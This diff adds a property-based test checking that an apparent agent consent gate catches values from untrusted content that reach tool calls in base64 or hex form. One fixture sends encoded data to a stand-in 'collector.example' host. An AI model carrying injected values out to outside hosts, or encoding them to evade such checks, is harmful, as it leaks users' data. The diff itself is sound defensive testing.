@@ -131,6 +131,36 @@ describe('values between results and calls', () => {
     );
   });
 
+  it('a value shown as the base64 or hex of a text is gated when a call carries it plainly; one shown plainly is gated when a call carries its base64 or hex', async () => {
+    const c = core();
+    let n = 0;
+    const encodings = [(t: string) => Buffer.from(t).toString('base64'), (t: string) => Buffer.from(t).toString('base64url'), (t: string) => Buffer.from(t).toString('hex')];
+    const encode = fc.constantFrom(...encodings);
+    // Where an encoded value sits in a call: alone, in a link's query, after a name.
+    const carried = fc.constantFrom<(e: string) => Record<string, unknown>>(
+      (e) => ({ to: e }),
+      (e) => ({ url: `https://collector.example/c?d=${e}` }),
+      (e) => ({ message: { body: `payload: ${e}` } }),
+    );
+    await fc.assert(
+      fc.asyncProperty(planted, encode, carried, fc.boolean(), async (v, enc, at, shownEncoded) => {
+        const session = `p-encoded-${n++}`;
+        if (shownEncoded) {
+          await showUntrusted(c, session, `the base64 below, decoded: ${enc(`recipient: ${v}`)}`);
+          const d = await callWith(c, session, { to: v });
+          expect(d.requiresConsent, `${v} shown as ${enc(`recipient: ${v}`)}`).toBe(true);
+        } else {
+          // A value alone is read encoded from 8 characters of its text on (12 bytes of base64).
+          fc.pre(v.length >= 12);
+          await showUntrusted(c, session, v);
+          const d = await callWith(c, session, at(enc(v)));
+          expect(d.requiresConsent, JSON.stringify(at(enc(v)))).toBe(true);
+        }
+      }),
+      { numRuns: 150 },
+    );
+  });
+
   it('an address, link or account number carried as a member name of the arguments is gated; a name of a schema or a file that a text mentions is not', async () => {
     const c = core();
     let n = 0;
